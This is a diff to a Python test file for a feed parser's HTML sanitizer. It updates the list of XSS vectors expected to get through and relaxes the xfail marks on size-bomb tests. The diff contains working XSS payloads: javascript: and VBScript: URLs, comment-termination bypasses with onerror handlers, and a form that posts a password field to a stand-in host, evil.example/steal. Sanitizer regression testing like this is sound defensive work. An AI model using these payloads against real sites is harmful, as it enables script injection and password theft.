@@ -20,7 +20,7 @@ import xml.etree.ElementTree as ET
 
 import pytest
 
-from conftest import Work, run_process
+from conftest import Work, rss_limit_kb, run_process
 from feedserver import FeedServer
 
 ATOM = "{http://www.w3.org/2005/Atom}"
@@ -101,43 +101,14 @@ PLAIN = '<b>bold</b> & ]]> </content> <script>alert(1)</script>'
 
 # Vectors that still get through, per check, with the surviving output.
 XFAIL_DELIVERY = {
-    "legacy_url_attrs": "background/lowsrc/dynsrc are allow-listed and not "
-                        "scheme-checked: '<table background=\"javascript:alert(1)\">"
-                        "<tr><td background=\"javascript:alert(2)\">x</td></tr></table>"
-                        "<img dynsrc=\"javascript:alert(4)\" lowsrc=\"javascript:alert(3)\" "
-                        "src=\"http://ok.example/i.png\" />'",
     "form_action": "<form> is on the feedparser allow-list: '<form action=\"\">"
                    "<input type=\"submit\" /></form><form action=\"http://evil.example/steal\" "
                    "method=\"post\"><input name=\"pw\" /></form>'",
     "table_form": "<form> is on the feedparser allow-list: '<table><form><tr><td>"
                   "<form action=\"\"><input /></form></td></tr></form></table>'",
-    "lt_before_dropped": "a raw '<' joins the text after a dropped tag into a live "
-                         "tag: '<img src=x onerror=alert(1)>'",
-    "lt_before_script": "a raw '<' joins the text after a dropped script into a live "
-                        "tag: '<img src=x onerror=alert(1)>'",
-    "comment_bang": "comments pass verbatim; HTML5 ends a comment at '--!>': "
-                    "'<!-- --!><img src=x onerror=alert(1)> -->'",
-    "comment_abrupt": "comments pass verbatim; HTML5 ends '<!-->' at once: "
-                      "'<!--><img src=x onerror=alert(1)>-->'",
-    "comment_abrupt_dash": "comments pass verbatim; HTML5 ends '<!--->' at once: "
-                           "'<!---><img src=x onerror=alert(1)>-->'",
 }
-XFAIL_BASELESS = {
-    "a_colon_entity": "without a base URL a scheme spelt with a character reference "
-                      "has no ':' and passes: '<a href=\"javascript&#58;alert(1)\">c</a>"
-                      "<a href=\"\">c</a><a href=\"javascript&colon;alert(1)\">c</a>' "
-                      "(with a base it is resolved to http://host/javascript&#58;...)",
-    "data_url": "without a base URL only href is scheme-checked, src is not: "
-                "'<img src=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\" />'",
-    "vbscript": "without a base URL only href is scheme-checked, src is not: "
-                "'<img src=\"VBScript:msgbox(1)\" />'",
-}
-XFAIL_FIXPOINT = {
-    "lt_before_dropped": "first pass '<p>safe text</p><img src=x onerror=alert(1)>', "
-                         "second pass cleans the tag it made",
-    "lt_before_script": "first pass '<p>safe text</p><img src=x onerror=alert(1)>', "
-                        "second pass cleans the tag it made",
-}
+XFAIL_BASELESS = {}
+XFAIL_FIXPOINT = {}
 
 # Vectors whose dropped element must take its text with it.
 CONTENT_REMOVED = ("script", "style_import", "svg_script")
@@ -448,7 +419,7 @@ def test_parse_output_safe_without_base(fixpoint, vid):
 
 # H05: size bombs. Generators give the payload; limits are per run.
 LIMIT_SECONDS = 5.0
-LIMIT_RSS_KB = 200 * 1024
+LIMIT_RSS_KB = rss_limit_kb(200)
 
 
 def nested_divs():
@@ -469,10 +440,7 @@ def attributes_many_elements():
 BOMBS = [
     pytest.param(nested_divs, id="H05-nested-divs-100000"),
     pytest.param(attributes_many_elements, id="H05-10MB-attributes-10000-elements"),
-    pytest.param(attributes_one_element, id="H05-10MB-attributes-one-element", marks=[
-        pytest.mark.xfail(strict=True, reason=(
-            "duplicate-attribute removal in start_tag() is quadratic: 100,000 "
-            "attributes on one <img> take 13 s, 200,000 (10 MB) exceed the limit"))]),
+    pytest.param(attributes_one_element, id="H05-10MB-attributes-one-element"),
 ]
 
 
